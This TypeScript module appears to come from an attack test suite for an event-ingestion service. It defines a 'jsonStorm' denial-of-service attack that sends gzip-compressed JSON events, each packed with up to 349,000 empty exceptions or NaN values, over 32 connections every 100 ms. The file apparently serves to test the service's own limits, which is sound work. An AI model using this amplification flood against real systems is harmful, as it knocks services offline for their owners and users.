import { gzipSync } from "node:zlib";
import { bytesOf } from "../../support/http/raw-request.ts";
import type { Attack } from "../attack.ts";
import { flood } from "../flood.ts";

/** An event of so many empty exceptions: a kilobyte in gzip. */
const exceptions = (count: number) => `{"message":"x","exception":{"values":[${"{},".repeat(count - 1)}{}]}}`;
const numbers = (count: number) => `{"message":"x","extra":{"list":[${"NaN,".repeat(count - 1)}NaN]}}`;

/** The first of the attack as it was; the second stays just within the bound of values. */
const bodies = [exceptions(349_000), exceptions(49_000), numbers(120_000), numbers(49_000)];

export const jsonStorm: Attack = {
  name: "H1 events of 49,000 to 349,000 values in 1 kB, on 32 connections",
  arm(field) {
    const headers = { "Content-Encoding": "gzip" };
    const requests = bodies.map((body) => bytesOf(field.project, { headers, body: gzipSync(body) }));
    return () =>
      flood(field, { connections: 32, everyMs: 100, next: (n) => requests[n % requests.length] ?? Buffer.of() });
  },
};
